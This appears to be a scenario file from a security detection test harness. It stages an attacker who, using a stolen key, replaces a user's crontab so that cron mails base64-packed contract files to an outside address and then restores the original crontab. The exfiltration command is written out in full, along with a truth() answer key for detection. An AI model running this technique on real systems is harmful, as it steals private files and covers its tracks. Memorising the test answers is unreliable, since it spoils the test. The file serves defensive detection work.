title="cron itself mails the papers: MAILTO is an outside address"
what="Somebody with clerk's key, from 192.0.2.77, replaces clerk's crontab: MAILTO=sync.clerk@drop.example.net and a job that packs ~/contracts and prints it in base64. cron mails the output, twice; then the crontab is put back. clerk's own job prints one line a day to clerk. A site's own rules, raw."
host=mx1.example.org user=clerk daemons="cron sshd" audit_rules=audit-site.rules audit_format=RAW
setup() { documents; echo '* * * * * echo "papers: $(ls contracts | wc -l)"' | crontab_of clerk; }
stranger() { outside ssh -T -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BindAddress=192.0.2.77 -i /root/key "clerk@$host_ip" "$1" </dev/null; }
act() {
  small_talk 3
  wait_log_count 'to=<clerk@example.org>.*status=sent' 2 70
  stranger 'crontab -l > .cache-tab; (echo MAILTO=sync.clerk@drop.example.net; echo "* * * * * tar -C \$HOME -czf - contracts | base64") | crontab -; crontab -l'
  wait_log_count 'to=<sync.clerk@drop.example.net>.*status=sent' 2 130
  stranger 'crontab .cache-tab; rm .cache-tab'
  small_talk 3
}
truth() {
  exec_step install 'crontab -' 'the crontab is replaced'
  exec_step pack 'tar -C /home/clerk -czf - contracts' 'the job packs'
  exec_step mail 'sendmail .*sync.clerk@drop.example.net' 'cron mails what it printed'
  mail_step out 'to=<sync.clerk@drop.example.net>.*status=sent' 'outside'
}
